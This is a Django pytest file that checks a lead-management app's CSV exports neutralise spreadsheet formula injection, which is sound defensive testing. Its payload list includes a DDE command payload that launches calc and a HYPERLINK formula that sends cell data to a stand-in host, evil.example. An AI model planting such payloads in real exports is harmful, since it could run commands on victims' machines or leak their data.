"""CSV injection: every CSV the app gives a person is safe to open in a spreadsheet, and loses nothing.

The payloads are OWASP's CSV injection prefixes (= + - @, tab, carriage return), a line feed, spaces
before an equals sign (the importers of LibreOffice and Excel may trim them) and a full-width equals sign.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from leads.lifecycle import Stage
from leads.models import ImportRowError
from leads.services.imports import import_job_create
from leads.services.lifecycle import lead_create, lead_stage_change
from reporting.services import rollups_refresh
from tests.factories import CampaignFactory, LeadFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
    "\uff1d1+2",
]
# What a spreadsheet reads as the start of a formula (after any spaces it trims).
TRIGGER = re.compile(r"^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def cells_of(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row]


def assert_neutralised(text: str, payload: str) -> None:
    cells = cells_of(text)
    live = [cell for cell in cells if TRIGGER.match(cell) and not NUMBER.match(cell)]
    assert live == [], f"cells a spreadsheet would run: {live!r}"
    assert "'" + payload in cells, "the payload is exported whole, behind an apostrophe"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_queue_export_neutralises_formula_cells(client, alice, payload):
    LeadFactory(stage=Stage.SAL, owner=alice, first_name=payload, last_name="", company_name=payload)
    client.force_login(alice)
    response = client.get(reverse("queue:export"))
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_import_error_file_neutralises_formula_cells(client, marketer, payload):
    job = import_job_create(
        by=marketer, upload=SimpleUploadedFile("a.csv", b"Email,Notes\r\nx,y\r\n"), campaign=CampaignFactory()
    )
    job.headers = ["Email", payload]
    job.save(update_fields=["headers"])
    ImportRowError.objects.create(job=job, line=2, reason="is not a valid email address", values=[payload, payload])
    client.force_login(marketer)
    response = client.get(reverse("imports:errors", args=[job.pk]))
    assert response.status_code == 200
    assert_neutralised(b"".join(response.streaming_content).decode(), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_report_table_export_neutralises_formula_cells(client, executive, alice, payload):
    now = timezone.now()
    campaign = CampaignFactory(
        name=payload, starts_on=now.date() - dt.timedelta(days=1), ends_on=now.date() + dt.timedelta(days=1)
    )
    alice.first_name, alice.last_name = payload, ""
    alice.save(update_fields=["first_name", "last_name"])
    lead = lead_create(email="lead@x.example", source_channel="inbound", campaign=campaign, at=now)
    lead_stage_change(lead=lead, to_stage=Stage.SAL, at=now, changes={"owner": alice})
    rollups_refresh()
    client.force_login(executive)
    exported = []
    for page in ("reporting:dashboard", "reporting:alignment"):
        tables = client.get(reverse(page)).context["tables"]
        assert tables
        for table in tables:
            response = client.get(f"{reverse(page)}?export={table.id}")
            assert response["Content-Type"].startswith("text/csv")
            text = response.content.decode()
            assert not [c for c in cells_of(text) if TRIGGER.match(c) and not NUMBER.match(c)], table.id
            exported += cells_of(text)
    assert "'" + payload in exported, "the campaign's name is exported whole, behind an apostrophe"


def test_only_the_formula_guard_writes_csv_for_people():
    """A new export cannot skip the guard: every csv.writer/DictWriter lives in leads/csv_safety.py.

    The import staging is the one exception: its CSV goes to PostgreSQL's COPY, not to a person.
    """
    allowed = {"leads/csv_safety.py", "leads/services/imports/staging.py"}
    writers = set()
    for app in ("leadops", "leads", "nurture", "reporting", "scoring"):
        for path in (ROOT / app).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in {"writer", "DictWriter"}
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.add(path.relative_to(ROOT).as_posix())
    assert writers - allowed == set()
    assert "leads/csv_safety.py" in writers
